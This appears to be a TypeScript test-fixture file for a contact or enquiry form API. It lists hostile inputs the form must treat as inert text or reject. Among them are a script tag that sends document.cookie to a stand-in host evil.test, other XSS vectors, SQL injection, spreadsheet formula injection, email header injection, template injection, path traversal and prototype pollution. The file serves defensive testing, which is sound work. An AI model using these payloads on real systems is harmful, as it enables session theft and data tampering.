type Part = Record<string, unknown>;

/** What means harm and is a question all the same: taken as it is written, and done nothing with. */
export const hostileWords: Part[] = [
  { message: '<script>fetch("https://evil.test/"+document.cookie)</script>' },
  { company: '<img src=x onerror=alert(1)>', message: '"><svg/onload=alert(1)>' },
  { message: "'); drop table enquiry; --", company: "Robert'); delete from enquiry_event; --" },
  { company: "=cmd|'/c calc'!A1", message: '@SUM(1+1)*cmd' },
  { message: 'Bcc: victim@example.test\r\nSubject: you won\r\n\r\n.\r\nMAIL FROM:<evil@example.test>\r\n' },
  { message: '\u202egnihtyna\u202c \u200b\ufeff 😀 ' + '亩'.repeat(3_900) },
  { message: '{{constructor.constructor("return process")()}} ${7*7} %00 %0d%0a' },
  { message: '../../../etc/passwd', company: '..\\..\\windows' },
];

/** What is no question: refused with a word, and nothing of it is kept. */
export const hostileBodies: { name: string; body: (question: Part) => string }[] = [
  { name: 'a second recipient', body: (question) => text(question, { email: 'a@b.test\r\nBcc: c@d.test' }) },
  { name: 'a list of recipients', body: (question) => text(question, { email: 'a@b.test,c@d.test' }) },
  { name: 'a line break in a name', body: (question) => text(question, { company: 'A\r\nBcc: c@d.test' }) },
  { name: 'control characters', body: (question) => text(question, { contactName: 'A\u0000\u001b[2J' }) },
  { name: 'a number that is none', body: (question) => text(question, { phone: '1 or 1=1' }) },
  { name: 'a megabyte', body: (question) => text(question, { message: 'x'.repeat(1_000_000) }) },
  { name: 'depth', body: () => `${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}` },
  { name: 'a list of depth', body: (question) => text(question, { parcelCodes: JSON.parse(nested(500)) }) },
  { name: 'a place in the database', body: (question) => text(question, { id: 1, state: 'closed' }) },
  { name: 'another’s clock', body: (question) => text(question, { receivedAt: '2020-01-01T00:00:00Z' }) },
  { name: 'a prototype', body: () => '{"__proto__": {"company": "x"}, "message": "x"}' },
  { name: 'no consent', body: (question) => text(question, { consent: { accepted: false } }) },
  {
    name: 'parcels by the hundred',
    body: (question) => text(question, { parcelCodes: Array(500).fill('E') }),
  },
];

function text(question: Part, over: Part): string {
  return JSON.stringify({ ...question, ...over });
}

function nested(depth: number): string {
  return '['.repeat(depth) + ']'.repeat(depth);
}
